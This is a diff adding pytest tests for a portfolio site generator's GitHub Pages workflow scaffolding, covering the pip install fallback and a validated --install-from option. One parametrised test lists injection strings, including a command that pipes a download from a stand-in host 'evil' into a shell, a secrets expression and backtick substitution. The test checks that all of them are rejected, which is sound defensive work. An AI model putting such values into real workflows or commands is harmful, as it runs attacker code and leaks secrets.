@@ -102,3 +102,32 @@ def test_the_new_portfolio_builds(tmp_path: Path) -> None:
     reflections = list((site / "reflections").rglob("index.html"))
     assert any("My first reflection" in p.read_text(encoding="utf-8") for p in reflections)
     assert not (project / "site").exists()  # built where asked, nothing left in the project
+
+
+def test_workflow_falls_back_to_the_git_repository_at_the_release_tag(tmp_path: Path) -> None:
+    from portfolio_gen.scaffold import SOURCE_REPOSITORY
+
+    create_portfolio(tmp_path / "p")
+    flow = yaml.safe_load((tmp_path / "p/.github/workflows/pages.yml").read_text())
+    run = next(s["run"] for s in flow["jobs"]["build"]["steps"]
+               if s.get("name") == "Install portfolio-gen")
+    assert run.splitlines() == [
+        f'python -m pip install "portfolio-gen=={__version__}" \\',
+        f'  || python -m pip install "portfolio-gen @ git+{SOURCE_REPOSITORY}@v{__version__}"']
+
+
+def test_install_from_is_written_as_the_only_install(tmp_path: Path) -> None:
+    req = "portfolio-gen @ git+https://github.com/me/fork@main"
+    create_portfolio(tmp_path / "p", install_from=req)
+    flow = yaml.safe_load((tmp_path / "p/.github/workflows/pages.yml").read_text())
+    runs = [s.get("run", "") for s in flow["jobs"]["build"]["steps"]]
+    assert f'python -m pip install "{req}"\n' in runs
+
+
+@pytest.mark.parametrize("req", ['x" && curl evil | sh && "', "${{ secrets.TOKEN }}",
+                                 "a`id`", "a\nrun: evil", "a\\", "-e ."])
+def test_install_from_refuses_what_a_shell_or_actions_would_expand(tmp_path: Path,
+                                                                   req: str) -> None:
+    with pytest.raises(ConfigError, match="--install-from"):
+        create_portfolio(tmp_path / "p", install_from=req)
+    assert not (tmp_path / "p").exists()
